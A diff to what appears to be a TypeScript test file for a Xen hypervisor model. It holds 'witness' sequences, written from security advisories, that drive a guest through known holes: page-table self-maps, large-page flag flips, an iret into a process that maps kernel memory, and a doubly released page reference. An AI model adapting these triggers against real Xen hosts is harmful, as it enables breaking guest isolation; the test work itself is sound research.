@@ -8,11 +8,6 @@ import { runScript } from '../src/run/script.ts'
 import { HOLES, holesOf, withHoles } from '../src/xen/holes.ts'
 import { SEED, XEN_417, XEN_417_RELEASE } from '../src/xen/version.ts'
 
-/** The probe's stack pointer in a hypercall: where iret looks for its frame. */
-const STACK = 0xffffffff80110ab0n
-/** What iret takes from the stack, to go on in user mode: rax r11 rcx flags rip cs rflags rsp ss. */
-const TO_USER = [0, 0, 0, 0, 0x1000, 0xe033, 0x200, 0x2000, 0xe02b]
-
 /** For each hole the shortest sequence that goes through it, written from the advisory's description. */
 const WITNESSES: Readonly<Record<string, string>> = {
   // A table is linked where a large page could be, and becomes one by a change of one flag: A0 lies at a 2 MiB boundary.
@@ -21,19 +16,19 @@ ro A0
 pin1 A0
 mmu KL2[500] = A0|P|RW|US|A|D
 mmu KL2[500] = A0|P|RW|US|A|D|PSE`,
+  // A device's page, uncached; then the entry changes nothing but its caching.
+  154: `uvm W0 = NORAM|P|RW|PWT|PCD
+uvm W0 = NORAM|P|RW`,
   // The root maps itself, for reading; then the entry gains RW.
   182: `mmu KL4[300] = KL4|P|US|A|D
 mmu KL4[300] = KL4|P|RW|US|A|D`,
   // iret to a process, whose tables have the kernel's memory too, and a call behind it.
-  213: `page U M
-mmu U[511] = KL3|P|RW|US|A|D
+  213: `page U T
+set U[511] = KL3|P|RW|US|A|D
 ro U
 pin4 U
 ubaseptr U
-${TO_USER.map((word, i) => `set 0x${(STACK + BigInt(i * 8)).toString(16)} = 0x${word.toString(16)}`).join('\n')}
-set M[0] = 23
-set M[8] = 17
-hc 13 @M 2`,
+multi iret , uvm W0 = T|P|RW|US`,
   // Three roots, each of which maps the next.
   240: `pages T 3
 ro T0
@@ -44,6 +39,15 @@ mmu T1[0] = T0|P|US|A|D
 pin4 T1
 mmu T2[0] = T1|P|US|A|D
 pin4 T2`,
+  // Xen looks at an L1 through its linear map; then another L1 is there, and the first one holds nothing any more. What Xen
+  // changes behind the old address is an entry whose reference it gives back a second time: T has none left.
+  286: `page L T
+ro L
+mmu KL2[500] = L|P|RW|US|A|D
+uvm V:511.510.500.0 = T|P|RW|US
+mmu KL2[500] = KL1W|P|RW|US|A|D
+uvm V:511.510.500.0 = 0
+pin1 T`,
   // An LDT of one descriptor, and a selector of its second page.
   298: `pages R 2
 ro R0
